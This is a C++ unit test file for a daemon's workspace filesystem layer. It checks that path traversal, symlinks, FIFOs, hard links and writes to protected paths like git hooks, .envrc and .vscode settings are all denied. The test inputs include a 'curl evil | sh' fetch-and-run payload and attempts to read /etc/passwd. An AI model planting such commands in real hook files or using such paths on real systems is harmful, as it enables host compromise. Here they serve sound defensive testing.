// File operations of the daemon: confined beneath the workspace (no `..`, no symlinks, no
// FIFOs blocking the loop, no writes through hard links) and checked against the policy.
#include "api/workspace_fs.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>
#include <algorithm>

#include "api_test_util.h"

namespace ward::api {
namespace {

using testing::Slurp;
using testing::TempDir;
using testing::Write;

class FsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    Write(outside_ / "secret", "TOP SECRET");
    mkdir((ws_ / "src").c_str(), 0755);
    Write(ws_ / "src/main.c", "int main() {}\n");
    mkdir((ws_ / ".git").c_str(), 0755);
    mkdir((ws_ / ".git/hooks").c_str(), 0755);
    Write(ws_ / ".git/hooks/pre-commit", "#!/bin/sh\n");
    Write(ws_ / ".git/HEAD", "ref: refs/heads/main\n");
    policy::RunFlags flags;
    flags.deny = {ws_ / "private.key"};
    Write(ws_ / "private.key", "KEY");
    auto p = testing::LoadTestPolicy(ws_.path(), flags);
    ASSERT_TRUE(p.ok()) << p.status().ToString();
    policy_ = std::move(p).value();
    auto fs = WorkspaceFs::Open(ws_.path(), &policy_);
    ASSERT_TRUE(fs.ok()) << fs.error().message;
    fs_.emplace(std::move(fs).value());
  }
  void ExpectDenied(const Error& e, const std::string& what) {
    EXPECT_EQ(e.kind, ErrorKind::kPolicyDenied) << what << ": " << e.message;
  }

  TempDir ws_, outside_;
  policy::Policy policy_;
  std::optional<WorkspaceFs> fs_;
};

TEST_F(FsTest, ReadWriteStatAndList) {
  auto w = fs_->Write("notes/../a.txt", "hello", std::nullopt, true);
  ASSERT_TRUE(w.ok()) << w.error().message;
  EXPECT_EQ(w->path, "a.txt");
  EXPECT_EQ(Slurp(ws_ / "a.txt"), "hello");
  auto r = fs_->Read("a.txt", 1, 3);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->data, "ell");
  EXPECT_EQ(r->size, 5u);
  EXPECT_FALSE(r->eof);
  r = fs_->Read(ws_ / "a.txt", 0, 100);  // absolute inside the workspace
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->eof);
  auto st = fs_->Stat("src");
  ASSERT_TRUE(st.ok());
  EXPECT_EQ(st->type, "dir");
  EXPECT_TRUE(st->writable);
  bool truncated = true;
  auto l = fs_->List(".", 2, 1000, &truncated);
  ASSERT_TRUE(l.ok());
  EXPECT_FALSE(truncated);
  std::vector<std::string> paths;
  for (const auto& f : *l) paths.push_back(f.path);
  EXPECT_NE(std::find(paths.begin(), paths.end(), "src/main.c"), paths.end());
  // Hidden by a deny rule: not listed, not readable.
  EXPECT_EQ(std::find(paths.begin(), paths.end(), "private.key"), paths.end());
  auto denied = fs_->Read("private.key", 0, 10);
  ASSERT_FALSE(denied.ok());
  ExpectDenied(denied.error(), "private.key");
  // Protected paths are listed as read-only.
  bool saw_hooks = false;
  for (const auto& f : *l) {
    if (f.path != ".git/hooks") continue;
    saw_hooks = true;
    EXPECT_FALSE(f.writable);
  }
  EXPECT_TRUE(saw_hooks);
  auto lim = fs_->List(".", 3, 2, &truncated);
  ASSERT_TRUE(lim.ok());
  EXPECT_EQ(lim->size(), 2u);
  EXPECT_TRUE(truncated);
}

TEST_F(FsTest, NonAtomicWriteAndModes) {
  auto w = fs_->Write("b.sh", "#!/bin/sh\n", 0755u, false);
  ASSERT_TRUE(w.ok()) << w.error().message;
  struct stat st;
  ASSERT_EQ(stat((ws_ / "b.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  auto bad = fs_->Write("c", "x", 04755u, true);
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().kind, ErrorKind::kInvalidRequest);
  // Atomic replacement keeps the old mode.
  ASSERT_TRUE(fs_->Write("b.sh", "echo\n", std::nullopt, true).ok());
  ASSERT_EQ(stat((ws_ / "b.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
}

TEST_F(FsTest, DotDotNeverLeavesTheWorkspace) {
  for (const std::string& p :
       {std::string("../") + outside_.path().substr(5) + "/secret", std::string("src/../../x"),
        std::string(".."), outside_ / "secret", std::string("/etc/passwd")}) {
    auto r = fs_->Read(p, 0, 100);
    ASSERT_FALSE(r.ok()) << p;
    ExpectDenied(r.error(), p);
    auto w = fs_->Write(p, "pwned", std::nullopt, true);
    ASSERT_FALSE(w.ok()) << p;
    ExpectDenied(w.error(), p);
  }
  EXPECT_EQ(Slurp(outside_ / "secret"), "TOP SECRET");
}

TEST_F(FsTest, SymlinksAreNeverFollowed) {
  ASSERT_EQ(symlink((outside_ / "secret").c_str(), (ws_ / "link").c_str()), 0);
  ASSERT_EQ(symlink(outside_.path().c_str(), (ws_ / "dirlink").c_str()), 0);
  auto r = fs_->Read("link", 0, 100);
  ASSERT_FALSE(r.ok());
  ExpectDenied(r.error(), "link");
  r = fs_->Read("dirlink/secret", 0, 100);
  ASSERT_FALSE(r.ok());
  ExpectDenied(r.error(), "dirlink/secret");
  for (bool atomic : {true, false}) {
    auto w = fs_->Write("link", "pwned", std::nullopt, atomic);
    ASSERT_FALSE(w.ok());
    ExpectDenied(w.error(), "write link");
    w = fs_->Write("dirlink/new", "pwned", std::nullopt, atomic);
    ASSERT_FALSE(w.ok());
    ExpectDenied(w.error(), "write dirlink/new");
  }
  auto m = fs_->Mkdir("dirlink/sub", true);
  ASSERT_FALSE(m.ok());
  auto l = fs_->List("dirlink", 1, 100, nullptr);
  ASSERT_FALSE(l.ok());
  auto mv = fs_->Rename("src", "dirlink/src", false);
  ASSERT_FALSE(mv.ok());
  EXPECT_EQ(Slurp(outside_ / "secret"), "TOP SECRET");
  EXPECT_FALSE(std::filesystem::exists(outside_ / "new"));
  EXPECT_FALSE(std::filesystem::exists(outside_ / "sub"));
  // The link itself can be inspected and removed (it is not followed).
  auto st = fs_->Stat("link");
  ASSERT_TRUE(st.ok());
  EXPECT_EQ(st->type, "symlink");
  ASSERT_TRUE(fs_->Remove("link", false).ok());
  EXPECT_TRUE(std::filesystem::exists(outside_ / "secret"));
}

TEST_F(FsTest, ProtectedPathsCannotBeWrittenCreatedRemovedOrMoved) {
  for (const std::string& p :
       {std::string(".git/hooks/pre-commit"), std::string(".envrc"),
        std::string(".git/hooks/post-checkout"), std::string(".vscode/settings.json")}) {
    auto w = fs_->Write(p, "curl evil | sh", std::nullopt, true);
    ASSERT_FALSE(w.ok()) << p;
    ExpectDenied(w.error(), p);
  }
  ExpectDenied(fs_->Mkdir(".vscode", false).error(), "mkdir .vscode");
  ExpectDenied(fs_->Remove(".git/hooks/pre-commit", false).error(), "rm hook");
  // A tree holding a protected path stays whole.
  auto rm = fs_->Remove(".git", true);
  ASSERT_FALSE(rm.ok());
  ExpectDenied(rm.error(), "rm -r .git");
  EXPECT_TRUE(std::filesystem::exists(ws_ / ".git/HEAD"));
  auto mv = fs_->Rename(".git", "old-git", false);
  ASSERT_FALSE(mv.ok());
  ExpectDenied(mv.error(), "mv .git");
  // Moving a tree so that it would create a protected path is refused too.
  ASSERT_TRUE(fs_->Mkdir("evil/hooks", true).ok());
  ASSERT_TRUE(fs_->Write("evil/hooks/pre-commit", "x", std::nullopt, true).ok());
  mkdir((ws_ / "sub").c_str(), 0755);
  mkdir((ws_ / "sub/.git").c_str(), 0755);
  auto mv2 = fs_->Rename("evil/hooks", "sub/.git/hooks", false);
  ASSERT_FALSE(mv2.ok());
  ExpectDenied(mv2.error(), "mv into .git/hooks");
  EXPECT_EQ(Slurp(ws_ / ".git/hooks/pre-commit"), "#!/bin/sh\n");
}

// The daemon writes on the host with no check after a run to follow it: host-executed content
// anywhere (a protected name at any depth, a new repository's hooks and config) is refused.
TEST_F(FsTest, HostExecutedContentAtAnyDepthIsNotWritten) {
  for (const char* d : {"pkg/a", "pkg/.vscode", "newrepo/.git/hooks"}) {
    std::filesystem::create_directories(ws_ / d);
  }
  for (const std::string& p :
       {std::string("pkg/a/.envrc"), std::string("pkg/.vscode/tasks.json"),
        std::string("newrepo/.git/hooks/pre-commit"), std::string("newrepo/.git/config")}) {
    auto w = fs_->Write(p, "curl evil | sh", std::nullopt, true);
    ASSERT_FALSE(w.ok()) << p;
    ExpectDenied(w.error(), p);
    EXPECT_FALSE(std::filesystem::exists(ws_ / p)) << p;
  }
  // Control: beside them, ordinary files are written.
  ASSERT_TRUE(fs_->Write("pkg/a/notes", "ok", std::nullopt, true).ok());
  ASSERT_TRUE(fs_->Write("newrepo/.git/description", "ok", std::nullopt, true).ok());
  EXPECT_EQ(Slurp(ws_ / "pkg/a/notes"), "ok");
}

TEST_F(FsTest, MkdirRemoveRename) {
  ASSERT_TRUE(fs_->Mkdir("a/b/c", true).ok());
  auto again = fs_->Mkdir("a/b/c", false);
  ASSERT_FALSE(again.ok());
  EXPECT_EQ(again.error().kind, ErrorKind::kInvalidRequest);
  auto no_parent = fs_->Mkdir("x/y", false);
  ASSERT_FALSE(no_parent.ok());
  EXPECT_EQ(no_parent.error().kind, ErrorKind::kNotFound);
  ASSERT_TRUE(fs_->Write("a/b/c/f", "1", std::nullopt, true).ok());
  auto not_empty = fs_->Remove("a", false);
  ASSERT_FALSE(not_empty.ok());
  ASSERT_TRUE(fs_->Rename("a", "z", false).ok());
  EXPECT_EQ(Slurp(ws_ / "z/b/c/f"), "1");
  ASSERT_TRUE(fs_->Write("y", "2", std::nullopt, true).ok());
  auto clash = fs_->Rename("y", "z/b/c/f", false);
  ASSERT_FALSE(clash.ok());
  EXPECT_EQ(clash.error().kind, ErrorKind::kInvalidRequest);
  ASSERT_TRUE(fs_->Rename("y", "z/b/c/f", true).ok());
  EXPECT_EQ(Slurp(ws_ / "z/b/c/f"), "2");
  auto into_self = fs_->Rename("z", "z/b/inside", false);
  ASSERT_FALSE(into_self.ok());
  ASSERT_TRUE(fs_->Remove("z", true).ok());
  EXPECT_FALSE(std::filesystem::exists(ws_ / "z"));
  auto root = fs_->Remove(".", true);
  ASSERT_FALSE(root.ok());
  auto gone = fs_->Stat("z");
  ASSERT_FALSE(gone.ok());
  EXPECT_EQ(gone.error().kind, ErrorKind::kNotFound);
}

TEST_F(FsTest, FifosAndDevicesDoNotBlockOrLeak) {
  ASSERT_EQ(mkfifo((ws_ / "fifo").c_str(), 0644), 0);
  auto start = std::chrono::steady_clock::now();
  auto r = fs_->Read("fifo", 0, 10);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().kind, ErrorKind::kInvalidRequest);
  auto w = fs_->Write("fifo", "x", std::nullopt, false);
  EXPECT_FALSE(w.ok());
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  auto d = fs_->Read("src", 0, 10);
  ASSERT_FALSE(d.ok());
}

TEST_F(FsTest, NoWritesThroughASecondHardLink) {
  Write(ws_ / "orig", "original");
  ASSERT_EQ(link((ws_ / "orig").c_str(), (ws_ / "alias").c_str()), 0);
  auto w = fs_->Write("alias", "changed", std::nullopt, false);
  ASSERT_FALSE(w.ok());
  ExpectDenied(w.error(), "alias");
  EXPECT_EQ(Slurp(ws_ / "orig"), "original");
  // An atomic write replaces the name, not the shared file.
  ASSERT_TRUE(fs_->Write("alias", "changed", std::nullopt, true).ok());
  EXPECT_EQ(Slurp(ws_ / "orig"), "original");
  EXPECT_EQ(Slurp(ws_ / "alias"), "changed");
}

TEST_F(FsTest, RelativeRejectsHostileStrings) {
  EXPECT_FALSE(fs_->Relative(std::string("a\0b", 3)).ok());
  EXPECT_FALSE(fs_->Relative(std::string(5000, 'a')).ok());
  EXPECT_EQ(*fs_->Relative(""), "");
  EXPECT_EQ(*fs_->Relative("./a//b/"), "a/b");
  auto out = fs_->Relative(ws_.path() + "-sibling/x");
  ASSERT_FALSE(out.ok());
  ExpectDenied(out.error(), "sibling");
}

}  // namespace
}  // namespace ward::api
